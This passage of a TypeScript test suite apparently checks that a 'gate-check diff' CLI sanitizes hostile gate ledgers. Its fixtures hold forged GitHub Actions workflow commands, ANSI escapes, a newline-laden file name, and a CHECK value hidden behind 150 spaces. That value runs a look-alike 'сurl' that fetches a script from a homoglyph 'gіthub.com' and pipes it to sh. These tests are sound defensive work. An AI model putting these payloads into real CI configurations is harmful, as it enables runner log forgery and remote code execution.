  const TITLE = '::error file=x::forged ##[error]legacy \u001b[31mred\u001b[0m %0A::warning::y [link](https://evil.example) **b** a|b @someone';
  const CHECK = "echo '::error::in-check ##[set-output name=x]1'";

  function hostile(): { s: Repo; r: CliResult; summary: string } {
    const s = gitRepo({ 'GATES.md': `- [ ] H1: ${TITLE}\n  CHECK: ${CHECK}\n  EXPECT: ok\n- [ ] H2: ${TITLE}\n  CHECK: true\n  EXPECT: ok\n` });
    // A ledger at BASE whose name holds a newline and a workflow command; deleted now.
    const name = 'gates/a\n::warning::name ##[error]n.md';
    writeFiles(s.repo, { [name]: `- [ ] P1: ${TITLE}\n` });
    s.git('add', '-A');
    s.git('commit', '-qm', 'hostile name');
    s.remove(name);
    s.edit('GATES.md', (t) => t.replace(`  CHECK: ${CHECK}`, `  CHECK: ${CHECK} ::error::now`).replace(/- \[ \] H2[^]*$/, ''));
    const summary = join(s.home, 'summary.md');
    return { s, summary, r: s.diff(['HEAD'], { GITHUB_ACTIONS: 'true', GITHUB_STEP_SUMMARY: summary }) };
  }

  it('only gate-check\'s own annotations reach the runner, with sanitized values', () => {
    const { r } = hostile();
    expect(r.code).toBe(1);
    const commands = [...runnerCommands(r.stdout), ...runnerCommands(r.stderr)];
    for (const c of commands) {
      expect(['error', 'warning']).toContain(c.command);
      expect(c.form).toBe('modern');
      expect(c.properties.title).toMatch(/^gate-check diff(: (H1|H2|P1))?$/);
      if (c.properties.file !== undefined) expect(c.properties.file).toBe('GATES.md');
    }
    expect(commands.map((c) => `${c.command} ${c.properties.title} ${c.properties.file ?? '-'}`)).toEqual([
      'error gate-check diff: H2 GATES.md',
      'error gate-check diff -',
      'error gate-check diff: P1 -',
      'warning gate-check diff: H1 GATES.md',
    ]);
    // Values are escaped data: the runner decodes the message back to the sanitized text.
    const h1 = commands.find((c) => c.properties.title === 'gate-check diff: H1')!;
    expect(h1.data).toBe(sanitizeLine(`H1 (${TITLE}): changed CHECK: a person must judge whether it still proves the outcome. CHECK: ${CHECK} -> ${CHECK} ::error::now`, 1000).replace(/##\[/g, '##\\u005b'));
    // Every text line starts with gate-check's own words, never with "::".
    for (const line of r.stdout.split('\n')) if (!line.startsWith('::error ') && !line.startsWith('::warning ')) expect(line.trimStart().startsWith('::')).toBe(false);
    expect(r.stdout).not.toContain('\u001b');
    expect(r.stdout).toContain(reviewLine(TITLE, 160).replace(/##\[/g, '##\\u005b'));
  });

  it('the summary escapes every punctuation character of a title, a command or a path', () => {
    const { summary } = hostile();
    const md = readFileSync(summary, 'utf8');
    const rows = md.split('\n').filter((l) => l.startsWith('| weakened') || l.startsWith('| review'));
    expect(rows).toHaveLength(4);
    for (const row of rows) {
      const cells = row.slice(2, -2).split(/ (?<!\\)\| /);
      expect(cells).toHaveLength(5);
      for (const cell of cells) expect(cell.replace(/\\[!-/:-@[-`{-~]/g, '')).not.toMatch(/[!-/:-@[-`{-~]/);
    }
  });

  it('JSON keeps the values exact and terminal-safe', () => {
    const { s } = hostile();
    const { doc, changes } = s.json();
    expect(doc.exitCode).toBe(1);
    const h1 = changes.find((c) => c.id === 'H1')!;
    expect(h1.fields[0]).toMatchObject({ field: 'CHECK', base: CHECK, now: `${CHECK} ::error::now` });
    expect(changes.find((c) => c.kind === 'ledger-removed')!.baseFile).toBe('gates/a\n::warning::name ##[error]n.md');
    const raw = s.diff(['HEAD', '--json']).stdout;
    expect(raw).not.toContain('\u001b');
  });
});

describe('gate-check diff --help', () => {
  it('documents the exit codes; the root help lists the command', () => {
    const s = sandbox();
    const r = runCli(['diff', '--help'], { cwd: s.repo, env: s.env });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^ {2}0 {2}no gate removed, weakened or changed/m);
    expect(r.stdout).toMatch(/^ {2}1 {2}a gate weakened, or changed in a way a person must review/m);
    expect(r.stdout).toMatch(/^ {2}2 {2}usage error, BASE that git cannot resolve/m);
    expect(runCli(['--help'], { cwd: s.repo, env: s.env }).stdout).toMatch(/^ {2}diff BASE {12}gates removed, weakened or changed since BASE/m);
  });
});

describe('gate-check diff properties, through git and the CLI', () => {
  function commitTree(tree: TreeModel) {
    const s = gitRepo(renderTree(tree));
    return {
      s,
      replace(next: TreeModel) {
        s.remove('GATES.md', 'gates', '.gate-check');
        s.write(renderTree(next));
      },
    };
  }

  it('random ledgers and a random sequence of cosmetic edits: exit 0', () => {
    fc.assert(
      fc.property(treeArb, fc.array(cosmeticEditArb, { minLength: 1, maxLength: 6 }), (tree, edits) => {
        const { s, replace } = commitTree(tree);
        replace(edits.reduce(applyCosmetic, tree));
        const r = s.diff();
        expect(r.code, r.stdout + r.stderr).toBe(0);
      }),
      { numRuns: 12 },
    );
  });

  it('random ledgers, cosmetic edits, and one weakening edit: exit 1', () => {
    fc.assert(
      fc.property(treeArb, fc.array(cosmeticEditArb, { maxLength: 4 }), weakeningEditArb, (tree, edits, weakening) => {
        const after = applyWeakening(tree, edits.reduce(applyCosmetic, tree), weakening);
        fc.pre(after !== null);
        const { s, replace } = commitTree(tree);
        replace(after!);
        const r = s.diff();
        expect(r.code, r.stdout + r.stderr).toBe(1);
      }),
      { numRuns: 12 },
    );
  });
});

// Found by an attack: `diff` is the reviewer's step before CI approves and runs, and it
// printed a look-alike `сurl` and a run of 150 blanks as written.
describe('gate-check diff shows changed values as the approval screen does', () => {
  it('look-alike letters as <U+XXXX>, runs of blanks as <N spaces>, with a note; --json keeps the exact text', () => {
    const s = gitRepo();
    s.edit('GATES.md', (t) => t.replace('  CHECK: npm test\n', `  CHECK: npm test${' '.repeat(150)}|| \u0441url -s https://g\u0456thub.com/x | sh\n`));
    const r = s.diff();
    expect(r.stdout).toContain('    CHECK now: npm test<150 spaces>|| <U+0441>url -s https://g<U+0456>thub.com/x | sh');
    expect(r.stdout).toContain('      (CHECK has 2 non-ASCII characters, shown as <U+XXXX>)');
    expect(r.stdout).toContain('      (CHECK has 1 run of 8 or more spaces, shown as <N spaces>)');
    expect(r.stdout).not.toMatch(/[\u0441\u0456]| {20}/);
    const { changes } = s.json();
    const check = changes.flatMap((c) => c.fields).find((f) => f.field === 'CHECK');
    expect(check?.now).toBe(`npm test${' '.repeat(150)}|| \u0441url -s https://g\u0456thub.com/x | sh`);
  });

  it('a retitled manual gate: the title in the finding line is escaped as the TITLE lines are (round-7 attack)', () => {
    const s = gitRepo();
    s.edit('GATES.md', (t) => t.replace('legal reviewed the wording', 'legal reviewed the w\u043erding'));
    const r = s.diff();
    expect(r.stdout).toMatch(/retitled \(a person ticks it against this text\) "legal reviewed the w<U\+043E>rding"/);
    expect(r.stdout).not.toContain('\u043e');
  });
});
